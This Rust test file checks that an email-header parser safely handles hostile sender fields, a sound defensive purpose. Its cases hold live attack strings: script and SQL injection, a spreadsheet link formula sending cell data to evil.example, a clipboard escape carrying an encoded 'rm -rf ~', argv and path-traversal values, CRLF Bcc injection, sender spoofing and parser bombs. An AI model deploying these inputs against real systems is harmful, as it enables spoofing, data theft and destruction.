//! Heads made to hurt, each with what becomes of it: no person out of a disguise, no name that
//! moves a cursor, nothing too large to be read at all.

use expect_test::expect;
use hallway::mail::header::{self, Seen};
use hallway::text::{has_hidden, shown};

/// An encoded word (RFC 2047) that spells every byte in hexadecimal.
fn word(text: &str) -> String {
    let hex: String = text.bytes().map(|byte| format!("={byte:02X}")).collect();
    format!("=?utf-8?q?{hex}?=")
}

/// A head from this author, otherwise harmless.
fn from(author: &str) -> Vec<u8> {
    with(author, "")
}

/// The same with more fields.
fn with(author: &str, more: &str) -> Vec<u8> {
    format!(
        "From: {author}\r\nTo: Alice <alice@example.org>\r\nSubject: hello\r\n\
         Date: Mon, 2 Nov 2026 10:00:00 +0000\r\n{more}\r\nbody\r\n"
    )
    .into_bytes()
}

/// A head whose author's name, encoded, is this text.
fn named(name: &str) -> Vec<u8> {
    from(&format!("{} <p@example.org>", word(name)))
}

fn cases() -> Vec<(&'static str, Vec<u8>)> {
    let b = |text: &str| text.as_bytes().to_vec();
    vec![
        ("markup", named("<b>Priya</b> <a href=\"http://evil.example\">click</a>")),
        ("markup-entity", named("&#x202e;evil &lt;b&gt;")),
        ("esc-title", named("\x1b]0;owned\x07\x1b[2J\x1b[31mPriya\x1b]8;;http://evil.example\x07")),
        ("esc-c1", named("\u{9b}31mPriya\u{9d}0;x\u{9c}")),
        ("esc-clipboard", named("\x1b]52;c;cm0gLXJmIH4K\x07Priya")),
        ("bidi", named("Priya \u{202e}gro.elpmaxe@ssob\u{202c} \u{2066}x\u{2069}")),
        ("invisible", named("Pri\u{200b}ya\u{2060}\u{feff}\u{e0041}\u{e0042}")),
        ("zalgo", named(&format!("P{}riya", "\u{301}".repeat(5000)))),
        ("emoji-width", named(&"\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}".repeat(50))),
        ("html", named("\"><script>alert(1)</script><!--")),
        ("csv", named("=HYPERLINK(\"http://evil.example/?\"&A1,\"Priya\")")),
        ("sql", named("Priya'); DROP TABLE person;--")),
        ("format", named("{} {0} %s %n ${HOME} `id` $(id)")),
        ("argv", from(&format!("{} <--config=/tmp/x@example.org>", word("--attach=/etc/passwd")))),
        ("mailto", from("\"Priya\" <p@example.org?bcc=evil@example.com&body=x>")),
        ("mailto-alone", from("\"Priya\" <p@example.org?body=x>")),
        ("path", from(&format!("{} <../../x@example.org>", word("../../.ssh/id\0.html")))),
        (
            "mailsploit-nul",
            from(&format!("{}{}@evil.example", word("boss@example.org"), word("\0"))),
        ),
        ("mailsploit-nl", from(&format!("{} <p@evil.example>", word("boss@example.org\n\nX: ")))),
        ("mailsploit-quoted", from("\"boss@example.org\" <p@evil.example>")),
        ("addr-encoded-word", from("=?utf-8?q?boss=40example.org?=@evil.example")),
        ("addr-angle-tail", from("<boss@example.org>p@evil.example")),
        ("addr-quoted-at", from("\"boss@example.org\"@evil.example")),
        ("addr-comment", from("boss@example.org(.evil.example)")),
        ("two-addresses", from("boss@example.org, Priya <p@evil.example>")),
        ("two-from", b("From: boss@example.org\r\nFrom: Priya <p@evil.example>\r\n\r\n")),
        ("from-colon-space", b("From : boss@example.org\r\nFrom: Priya <p@evil.example>\r\n\r\n")),
        ("crlf-inject", named("Priya\r\nBcc: evil@example.com\r\n\r\n<p>body")),
        ("comment-deep", from(&format!("{}{} p@example.org", "(".repeat(17), ")".repeat(17)))),
        (
            "comment-bomb",
            from(&format!("{}{} p@example.org", "(".repeat(100_000), ")".repeat(100_000))),
        ),
        ("group-bomb", from(&format!("undisclosed: {};", "a@example.org, ".repeat(50_000)))),
        (
            "encoded-word-bomb",
            from(&format!("{} <p@example.org>", "=?utf-8?q?a?= ".repeat(100_000))),
        ),
        ("encoded-word-nested", from("=?utf-8?q?=3D=3Futf-8=3Fq=3FPriya=3F=3D?= <p@example.org>")),
        ("charset-evil", from("=?utf-7?q?+ADw-script+AD4-?= <p@example.org>")),
        ("charset-unknown", from("=?x-nope?q?Pri?= =?utf-8*en?q?ya?= <p@example.org>")),
        ("date-evil", b("From: p@example.org\r\nDate: Fri, 31 Feb 99999 25:61:61 +9999\r\n\r\n")),
        ("date-future", b("From: p@example.org\r\nDate: Thu, 1 Jan 2099 00:00:00 +0000\r\n\r\n")),
        (
            "fold-bomb",
            [&b"From: p@example.org\r\nSubject:"[..], &b"\r\n ".repeat(300_000)].concat(),
        ),
        ("long-line", [&b"From: "[..], &b"a".repeat(8 << 20), b"@example.org\r\n\r\n"].concat()),
        ("many-headers", with("p@example.org", &"X-A: b\r\n".repeat(200_000))),
        (
            "references-bomb",
            with("p@example.org", &format!("References: {}\r\n", "<a@b> ".repeat(200_000))),
        ),
        ("message-id-dup", with("p@example.org", "Message-ID: <x@x>\r\nMessage-ID: <y@y>\r\n")),
        ("no-headers", b("\r\nbody")),
        ("empty", Vec::new()),
        ("nul", vec![0; 4096]),
        ("binary", (0..=u8::MAX).cycle().take(65536).collect()),
        ("8bit", b"From: Pri\xff\xfeya <p@example.org>\r\nSubject: \xe9\xe8\r\n\r\n".to_vec()),
        ("lf-only", b("From: p@example.org\nSubject: s\n\n")),
        ("cr-only", b("From: p@example.org\rSubject: s\r\r")),
        ("redos-addr", from(&format!("{}!", "a.".repeat(30_000)))),
        ("redos-space", from(&format!("a{}b", " ".repeat(60_000)))),
    ]
}

#[test]
fn hostile_heads() {
    let received = "2026-11-03T00:00:00Z".parse().unwrap();
    let mut out = String::new();
    for (case, bytes) in cases() {
        let line = match header::read(&bytes, Seen { received, sent: false }) {
            Ok(envelope) => {
                let name = envelope.from.display_name.unwrap_or_default();
                assert!(!has_hidden(&name), "{case}");
                format!("{} {:?} {}", envelope.date, envelope.from.addr_spec, shown(&name))
            }
            Err(why) => why.to_owned(),
        };
        out += format!("{case}: {line}").trim_end();
        out.push('\n');
    }
    expect![[r#"
        markup: 2026-11-02T10:00:00Z <p@example.org> <b>Priya</b> <a href="http://evil.example">click</a>
        markup-entity: 2026-11-02T10:00:00Z <p@example.org> &#x202e;evil &lt;b&gt;
        esc-title: 2026-11-02T10:00:00Z <p@example.org> ]0;owned[2J[31mPriya]8;;http://evil.example
        esc-c1: 2026-11-02T10:00:00Z <p@example.org> 31mPriya0;x
        esc-clipboard: 2026-11-02T10:00:00Z <p@example.org> ]52;c;cm0gLXJmIH4KPriya
        bidi: 2026-11-02T10:00:00Z <p@example.org> Priya x
        invisible: 2026-11-02T10:00:00Z <p@example.org> Priya
        zalgo: 2026-11-02T10:00:00Z <p@example.org> Ṕ́
        emoji-width: 2026-11-02T10:00:00Z <p@example.org> 👨👩👧👨👩👧👨👩👧👨👩👧👨👩👧👨👩👧👨👩👧👨👩👧👨👩👧👨👩👧👨…
        html: 2026-11-02T10:00:00Z <p@example.org> "><script>alert(1)</script><!--
        csv: 2026-11-02T10:00:00Z <p@example.org> =HYPERLINK("http://evil.example/?"&A1,"Priya")
        sql: 2026-11-02T10:00:00Z <p@example.org> Priya'); DROP TABLE person;--
        format: 2026-11-02T10:00:00Z <p@example.org> {} {0} %s %n ${HOME} `id` $(id)
        argv: 2026-11-02T10:00:00Z <--config=/tmp/x@example.org> --attach=/etc/passwd
        mailto: author without a usable address
        mailto-alone: author without a usable address
        path: 2026-11-02T10:00:00Z <../../x@example.org> ../../.ssh/id.html
        mailsploit-nul: author without a usable address
        mailsploit-nl: 2026-11-02T10:00:00Z <p@evil.example> X:
        mailsploit-quoted: 2026-11-02T10:00:00Z <p@evil.example>
        addr-encoded-word: author without a usable address
        addr-angle-tail: author without a usable address
        addr-quoted-at: author without a usable address
        addr-comment: 2026-11-02T10:00:00Z <boss@example.org> .evil.example
        two-addresses: several authors
        two-from: several authors
        from-colon-space: several authors
        crlf-inject: 2026-11-02T10:00:00Z <p@example.org> Priya Bcc: <p>body
        comment-deep: comments nested too deep
        comment-bomb: header field too long
        group-bomb: header too large
        encoded-word-bomb: header too large
        encoded-word-nested: 2026-11-02T10:00:00Z <p@example.org> =?utf-8?q?Priya?=
        charset-evil: 2026-11-02T10:00:00Z <p@example.org> <script>
        charset-unknown: 2026-11-02T10:00:00Z <p@example.org> Priya
        date-evil: 2026-11-03T00:00:00Z <p@example.org>
        date-future: 2026-11-03T00:00:00Z <p@example.org>
        fold-bomb: too many header lines
        long-line: header too large
        many-headers: too many header lines
        references-bomb: header too large
        message-id-dup: 2026-11-02T10:00:00Z <p@example.org>
        no-headers: no header
        empty: no header
        nul: no header
        binary: no header
        8bit: 2026-11-03T00:00:00Z <p@example.org> Pri��ya
        lf-only: 2026-11-03T00:00:00Z <p@example.org>
        cr-only: no author
        redos-addr: no author
        redos-space: no author
    "#]].assert_eq(&out);
}
